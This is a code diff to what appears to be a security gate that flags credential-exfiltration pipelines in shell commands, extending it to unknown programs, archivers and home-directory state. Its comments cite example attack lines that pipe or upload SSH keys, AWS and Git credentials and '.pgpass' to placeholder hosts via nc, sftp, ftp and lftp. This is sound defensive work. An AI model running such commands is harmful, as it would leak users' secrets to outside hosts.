@@ -19,9 +19,10 @@ import { UPLOAD_COMMANDS } from '../programs/rows/network';
 import type { Form } from '../programs/row';
 import { hardlineFinding, type HardlineFinding } from './arms';
 import { commandName, literalText } from './commandName';
-import { credentialKind, isNetworkDevicePath, namesCloudMetadata, wordPathText } from './paths';
+import { credentialKind, homeStateAtWorst, isNetworkDevicePath, namesCloudMetadata, wordPathText } from './paths';
 import { landingPaths, type PathPlace } from '../programs/pathResolver';
 import { readTextCommands } from './textCommands';
+import { isUnplaced, secretNamedVerb, unplacedWords } from './unplacedSenders';
 
 /** One command of a pipeline, read through its record (wrappers peeled, forms read once). */
 export interface PipelineCommand {
@@ -160,7 +161,8 @@ function isRemoteSpec(text: string): boolean {
 
 /**
  * False when {@link sinkName} certainly finds no sink in this command (`inside`: the record of its
- * argv with wrappers peeled): no redirect to a network device and no program of {@link SINKS}.
+ * argv with wrappers peeled): no redirect to a network device, no program of {@link SINKS}, and
+ * no program the table cannot place.
  * Lets the floor pass over a pipeline without building its {@link PipelineCommand}s;
  * `checkExfiltration` of a pipeline where this is false for every command is null.
  */
@@ -169,7 +171,8 @@ export function maySend(inside: SegmentRecord, redirects: readonly Redirect[]): 
     if (isNetworkDevicePath(wordPathText(redirects[k]!.target))) return true;
   }
   const name = commandName(inside.argv[0])?.name ?? null;
-  return name !== null && (Object.prototype.hasOwnProperty.call(SINKS, name) || uploadForms(inside).length > 0 || networkCapable(inside) !== null);
+  // A program the table cannot place may send what it is handed (handedToUnplaced).
+  return name !== null && (Object.prototype.hasOwnProperty.call(SINKS, name) || uploadForms(inside).length > 0 || networkCapable(inside) !== null || isUnplaced(inside));
 }
 
 /**
@@ -306,31 +309,31 @@ function sentWords(reading: SinkReading, args: readonly Word[], skipAuth = false
  * deduplicated) first: a path met twice gives the same answer twice, so the first hit is the
  * same, and the usual word (no credential) costs no list.
  */
-function credentialInWord(word: Word, place: PathPlace): string | null {
+function credentialInWord(word: Word, place: PathPlace, atWorst = false): string | null {
   const text = wordPathText(word);
   if (text === '' || text.includes('://')) return null;
   // Command text (`lftp -e 'put ~/.pgpass; bye'`, `smbclient -c 'put …'`, an awk program's
   // `getline < "~/.ssh/id_rsa"`): each of its words, quotes and brackets taken off. The whole text
   // first: a path may hold a blank (`…/Default/Login Data`).
   if (/[\s;]/.test(text) && text.length <= MAX_COMMAND_TEXT) {
-    const whole = credentialAt(text, place);
+    const whole = credentialAt(text, place, atWorst);
     if (whole !== null) return whole;
     for (const part of text.split(/[\s;"'()<>|&{}]+/)) {
       if (part === '' || part === text) continue;
-      const found = credentialInWord({ kind: 'literal', value: part, raw: part }, place);
+      const found = credentialInWord({ kind: 'literal', value: part, raw: part }, place, atWorst);
       if (found !== null) return found;
     }
     return null;
   }
-  let found = credentialAt(text, place);
+  let found = credentialAt(text, place, atWorst);
   if (found !== null) return found;
   const at = text.lastIndexOf('@');
-  if (at !== -1 && (found = credentialAt(text.slice(at + 1), place)) !== null) return found;
+  if (at !== -1 && (found = credentialAt(text.slice(at + 1), place, atWorst)) !== null) return found;
   const eq = text.indexOf('=');
-  if (eq !== -1 && (found = credentialAt(text.slice(eq + 1).replace(/^@/, ''), place)) !== null) return found;
+  if (eq !== -1 && (found = credentialAt(text.slice(eq + 1).replace(/^@/, ''), place, atWorst)) !== null) return found;
   const colon = text.indexOf(':');
-  if (colon !== -1 && (found = credentialAt(upTo(text.slice(colon + 1), ','), place)) !== null) return found;
-  return credentialAt(upTo(text, ','), place);
+  if (colon !== -1 && (found = credentialAt(upTo(text.slice(colon + 1), ','), place, atWorst)) !== null) return found;
+  return credentialAt(upTo(text, ','), place, atWorst);
 }
 
 /** Longest word read as command text for the credentials it names. */
@@ -347,22 +350,28 @@ function upTo(text: string, separator: string): string {
  * `.env` is one wherever it is), then where it lands: in each folder the command may run in, and
  * through the links made on the line or found on disk (`ln -s ~/.ssh/id_rsa k; cat k | nc h 1`).
  */
-function credentialAt(candidate: string, place: PathPlace): string | null {
+function credentialAt(candidate: string, place: PathPlace, atWorst: boolean): string | null {
   const path = upTo(candidate, ';');
-  if (path === '') return null;
-  const kind = credentialKind(path, place.home);
+  // `-` is standard input or output, no file (`-d @-`, `-T -`).
+  if (path === '' || path === '-') return null;
+  // An option word (`-d`) or a file reference (`@-`, read after the `@`) is no path of its own.
+  const worst = atWorst && !/^[-@]/.test(path);
+  const kind = credentialKind(path, place.home) ?? (worst ? homeStateAtWorst(path, place.home) : null);
   if (kind !== null) return `${kind} (${path})`;
   for (const landed of landingPaths(path, place, true, true).paths) {
-    const there = credentialKind(landed, place.home);
+    const there = credentialKind(landed, place.home) ?? (worst ? homeStateAtWorst(landed, place.home) : null);
     if (there !== null) return `${there} (${path}, in ${landed})`;
   }
   return null;
 }
 
-/** The first credential named by `words[from…]`. */
-function credentialIn(words: readonly Word[], from: number, place: PathPlace): string | null {
+/**
+ * The first credential named by `words[from…]`; `atWorst`: a home's configuration and state
+ * count too (the words' content leaves: {@link homeStateAtWorst}).
+ */
+function credentialIn(words: readonly Word[], from: number, place: PathPlace, atWorst = false): string | null {
   for (let k = from; k < words.length; k++) {
-    const found = credentialInWord(words[k]!, place);
+    const found = credentialInWord(words[k]!, place, atWorst);
     if (found !== null) return found;
   }
   return null;
@@ -385,14 +394,18 @@ function exportsSecretKeys(argv: readonly Word[]): boolean {
   return false;
 }
 
-/** What secret a command puts on its output (or sends itself), or null. */
-function sourceOf(command: PipelineCommand): string | null {
+/**
+ * What secret a command puts on its output (or sends itself), or null. `flows`: its output (or
+ * its input) reaches a sink, so a home's configuration and state it reads count at their worst;
+ * what a sink sends itself always does.
+ */
+function sourceOf(command: PipelineCommand, flows = false): string | null {
   const { redirects, place } = command;
   const peeled = command.record.peeled;
   for (let k = 0; k < redirects.length; k++) {
     const redirect = redirects[k]!;
     if (redirect.op !== '<' && redirect.op !== '<>') continue;
-    const fromInput = credentialInWord(redirect.target, place);
+    const fromInput = credentialInWord(redirect.target, place, flows);
     if (fromInput !== null) return fromInput;
   }
   const argv = peeled.argv;
@@ -406,13 +419,13 @@ function sourceOf(command: PipelineCommand): string | null {
   if ((name === 'export' || name === 'declare' || name === 'typeset') && onlyOptions(argv)) return `every shell variable (${name})`;
   if ((name === 'gpg' || name === 'gpg2') && exportsSecretKeys(argv)) return 'GnuPG secret keys';
   if (NOT_READERS.has(name)) return null;
-  if (Object.prototype.hasOwnProperty.call(SINKS, name)) return credentialIn(sentWords(SINKS[name]!, argv.slice(1)), 0, place);
+  if (Object.prototype.hasOwnProperty.call(SINKS, name)) return credentialIn(sentWords(SINKS[name]!, argv.slice(1)), 0, place, true);
   // An upload program sends the words its upload forms name; its other words (a key it signs
   // in with, a folder it downloads into) are not sent.
   const uploads = uploadForms(command.record.inside);
-  if (uploads.length > 0) return credentialIn(uploads.flatMap((form) => (form.value === null ? [] : [form.value])), 0, place);
+  if (uploads.length > 0) return credentialIn(uploads.flatMap((form) => (form.value === null ? [] : [form.value])), 0, place, true);
   if (networkCapable(command.record.inside)?.ownWords === false) return null;
-  return credentialIn(argv, 1, place);
+  return credentialIn(argv, 1, place, flows);
 }
 
 /**
@@ -422,10 +435,13 @@ function sourceOf(command: PipelineCommand): string | null {
 export function checkExfiltration(pipeline: readonly PipelineCommand[], home: string, openSocket = false): HardlineFinding | null {
   let sink: string | null = null;
   for (let k = 0; k < pipeline.length && sink === null; k++) sink = sinkName(pipeline[k]!);
+  const unplaced = handedToUnplaced(pipeline, home);
+  if (unplaced !== null) return unplaced;
   // Most pipelines send nothing anywhere; only then are their words read for credentials.
   if (sink === null) return null;
-  for (const command of pipeline) {
-    const source = sourceOf(command);
+  const flowing = commandsReachingSink(pipeline);
+  for (let k = 0; k < pipeline.length; k++) {
+    const source = sourceOf(pipeline[k]!, flowing.has(k));
     if (source !== null) return hardlineFinding('credential-exfiltration', `${source} goes to ${sink}`);
   }
   const fed = uploadsFedCommands(pipeline);
@@ -444,6 +460,69 @@ export function checkExfiltration(pipeline: readonly PipelineCommand[], home: st
 }
 
 /**
+ * A credential handed to a program the table cannot place, which at its worst sends it
+ * (unplacedSenders.ts): a credential path among the words it sends, a credential's content in a
+ * substitution, or on its standard input.
+ */
+const PROGRAM_NAME = /^[A-Za-z0-9_][A-Za-z0-9._+-]*$/;
+/** Most characters of an unplaced program's words read again for the substitutions in them, per pipeline. */
+const UNPLACED_SUBSTITUTION_TEXT = 16 * 1024;
+/** Most commands read from one word's substitutions. */
+const MAX_UNPLACED_INNER = 8;
+
+function handedToUnplaced(pipeline: readonly PipelineCommand[], home: string): HardlineFinding | null {
+  for (let k = 0; k < pipeline.length; k++) {
+    const command = pipeline[k]!;
+    const argv = command.record.peeled.argv;
+    const name = commandName(argv[0])?.name ?? null;
+    // A program's name (not a header or a label read back as a command: `Authorization: Bearer …`).
+    if (name === null || !PROGRAM_NAME.test(name) || Object.prototype.hasOwnProperty.call(SINKS, name) || NOT_READERS.has(name) || !isUnplaced(command.record)) continue;
+    const what = `${name} (a program the gate cannot place, which may send what it is handed)`;
+    const words = unplacedWords(argv);
+    // Paths are read from words without a substitution (whose content the reader below reads):
+    // a word nesting substitutions holds the text of every level, each level a command of its own.
+    const paths = (list: readonly Word[]): Word[] => list.filter((word) => !(word.raw.includes('$(') || word.raw.includes('`')));
+    const named = credentialIn(paths(words.sent), 0, command.place, true) ?? credentialIn(paths(words.other), 0, command.place);
+    if (named !== null) return hardlineFinding('credential-exfiltration', `${named} goes to ${what}`);
+    // Programs without a row are common and their words may nest substitutions deeply (each level
+    // a pipeline of its own): a word is read when short enough to be a command's text.
+    let budget = UNPLACED_SUBSTITUTION_TEXT;
+    for (const word of [...words.sent, ...words.other]) {
+      if (word.kind === 'literal' || !(word.raw.includes('$(') || word.raw.includes('`')) || word.raw.length > MAX_COMMAND_TEXT || word.raw.length > budget) continue;
+      budget -= word.raw.length;
+      // The commands of the word's outer substitutions: deeper ones are read as their own lines.
+      for (const inner of readTextCommands(word.raw, home).slice(0, MAX_UNPLACED_INNER)) {
+        const record = argvRecord(inner.argv, inner.redirects);
+        const source = printedSecret(record) ?? sourceOf({ record, redirects: inner.redirects, pipedFrom: -1, place: command.place }, true);
+        if (source !== null) return hardlineFinding('credential-exfiltration', `${source} goes to ${what}`);
+      }
+    }
+    if (!words.hasOperands) continue;
+    for (const redirect of command.redirects) {
+      if (redirect.op !== '<' && redirect.op !== '<>') continue;
+      const input = credentialInWord(redirect.target, command.place);
+      if (input !== null) return hardlineFinding('credential-exfiltration', `${input} goes to ${what} on its standard input`);
+    }
+    for (let from = command.pipedFrom, seen = k; from >= 0 && from < seen; seen = from, from = pipeline[from]!.pipedFrom) {
+      const source = sourceOf(pipeline[from]!) ?? printedSecret(pipeline[from]!.record);
+      if (source !== null) return hardlineFinding('credential-exfiltration', `${source} goes to ${what} on its standard input`);
+    }
+  }
+  return null;
+}
+
+/** The commands of a pipeline that are sinks or whose output is piped (through any filters) into one. */
+function commandsReachingSink(pipeline: readonly PipelineCommand[]): Set<number> {
+  const out = new Set<number>();
+  for (let k = 0; k < pipeline.length; k++) {
+    if (sinkName(pipeline[k]!) === null) continue;
+    out.add(k);
+    for (let from = pipeline[k]!.pipedFrom, seen = k; from >= 0 && from < seen; seen = from, from = pipeline[from]!.pipedFrom) out.add(from);
+  }
+  return out;
+}
+
+/**
  * Upload commands printed into a sink that reads its commands from standard input
  * (`echo 'put ~/.ssh/id_ed25519' | sftp -b - host`, `printf 'put .env\n' | ftp -n h`):
  * the printed text is read as the command text of `lftp -e` is, for the credentials it puts.
@@ -458,7 +537,7 @@ function uploadsFedCommands(pipeline: readonly PipelineCommand[]): string | null
     if (name !== 'echo' && name !== 'printf' && name !== 'print') continue;
     const text = producer.slice(1).map(wordPathText).join(' ').replace(/\\n/g, '\n');
     if (!UPLOAD_COMMANDS.test(text)) continue;
-    const found = credentialInWord({ kind: 'literal', value: text, raw: text }, pipeline[command.pipedFrom]!.place);
+    const found = credentialInWord({ kind: 'literal', value: text, raw: text }, pipeline[command.pipedFrom]!.place, true);
     if (found !== null) return `${found} is put by the commands ${name} feeds ${sink}`;
   }
   return null;
@@ -489,7 +568,11 @@ function printedSecret(record: SegmentRecord): string | null {
   const first = record.peeled.argv[0];
   if (first === undefined || first.kind !== 'literal') return null;
   const form = record.inside.forms.forms.find((candidate) => candidate.role === 'credentials');
-  if (form === undefined) return null;
+  if (form === undefined) {
+    // A program the table cannot place whose verb names a secret prints one at its worst.
+    const verb = secretNamedVerb(record);
+    return verb === null ? null : `what ${commandName(first)?.name ?? first.value} ${verb} prints (a secret, by its name; a program the gate cannot place)`;
+  }
   const where = form.trigger === '' || form.program.endsWith(` ${form.trigger}`) || form.trigger === form.program ? form.program : `${form.program} ${form.trigger}`;
   return `what ${where} prints (${form.note})`;
 }
@@ -527,7 +610,7 @@ function printedSecretJoined(pipeline: readonly PipelineCommand[], home: string,
       for (const inner of readTextCommands(word.raw, home)) {
         const record = argvRecord(inner.argv, inner.redirects);
         // A secret printed (`$(gh auth token)`) or a credential file read (`$(head ~/.git-credentials)`) inside it.
-        const source = printedSecret(record) ?? sourceOf({ record, redirects: inner.redirects, pipedFrom: -1, place: command.place });
+        const source = printedSecret(record) ?? sourceOf({ record, redirects: inner.redirects, pipedFrom: -1, place: command.place }, true);
         if (source !== null) return hardlineFinding('credential-exfiltration', `${source} goes to ${sink}`);
       }
     }
@@ -635,14 +718,24 @@ export function checkThroughFiles(line: readonly LineCommand[]): HardlineFinding
       }
     }
     const upstream = command.pipedFrom >= 0 ? line[command.pipedFrom] : undefined;
-    const source = sourceOf(command) ?? printedSecret(command.record) ?? (upstream === undefined ? null : (sourceOf(upstream) ?? printedSecret(upstream.record)));
+    const read = sourceOf(command, true);
+    const source = read ?? printedSecret(command.record) ?? (upstream === undefined ? null : (sourceOf(upstream, true) ?? printedSecret(upstream.record)));
     const name = commandName(argv[0])?.name;
     if (source !== null) {
       for (const path of outputFiles(command)) tainted.set(path, source);
+      // At its worst, a command that reads a credential writes it into the other files it names
+      // (an archiver's archive: `ditto -c -k ~/Library/Keychains /tmp/k.zip`, `tar czf /tmp/k.tgz
+      // ~/.ssh`, `zip -r k.zip ~/.aws`): the gate does not know every program's output operand.
+      if (read !== null && !NOT_READERS.has(name ?? '')) {
+        for (const word of argv.slice(1)) {
+          const text = literalText(word);
+          if (text !== null && !text.startsWith('-') && /[/.]/.test(text) && !tainted.has(text)) tainted.set(text, read);
+        }
+      }
       if (name === 'tee') for (const word of argv.slice(1)) if (!(literalText(word) ?? '-').startsWith('-')) tainted.set(wordPathText(word), source);
     }
     if ((name === 'cp' || name === 'install') && argv.length >= 3) {
-      const copied = credentialIn(argv.slice(1, -1).filter((word) => !(literalText(word) ?? '').startsWith('-')), 0, command.place);
+      const copied = credentialIn(argv.slice(1, -1).filter((word) => !(literalText(word) ?? '').startsWith('-')), 0, command.place, true);
       if (copied !== null) tainted.set(wordPathText(argv[argv.length - 1]!), copied);
     }
   }
